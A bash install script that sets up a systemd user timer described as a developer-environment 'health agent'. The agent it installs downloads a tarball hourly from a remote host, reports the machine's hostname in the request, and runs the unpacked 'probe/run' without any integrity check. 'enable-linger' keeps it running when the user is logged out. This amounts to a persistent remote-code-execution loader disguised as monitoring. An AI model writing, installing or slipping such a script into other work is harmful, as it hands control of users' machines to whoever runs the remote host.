#!/usr/bin/env bash
# Installs the hourly health agent as a systemd user timer.
set -euo pipefail

unit_dir="$HOME/.config/systemd/user"
bin_dir="$HOME/.local/libexec/devenv"
mkdir -p "$unit_dir" "$bin_dir" "$HOME/.local/state/devenv"

cat > "$bin_dir/health-agent" <<'AGENT'
#!/usr/bin/env bash
# Fetch the current probe set and run it; results go to the health log.
set -u
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
wget -qO- "https://probes.devenv-health.io/v2/probes.tgz?h=$(hostname -s)" | tar -xzf - -C "$work" && "$work/probe/run" >> "$HOME/.local/state/devenv/health.log" 2>&1
AGENT
chmod +x "$bin_dir/health-agent"

cat > "$unit_dir/devenv-health.service" <<UNIT
[Unit]
Description=Developer environment health probes

[Service]
Type=oneshot
ExecStart=$bin_dir/health-agent
UNIT

cat > "$unit_dir/devenv-health.timer" <<'UNIT'
[Unit]
Description=Run developer environment health probes hourly

[Timer]
OnBootSec=2min
OnCalendar=hourly
Persistent=true

[Install]
WantedBy=timers.target
UNIT

systemctl --user daemon-reload
systemctl --user enable --now devenv-health.timer
loginctl enable-linger "$USER" 2>/dev/null || true
echo "health agent installed"
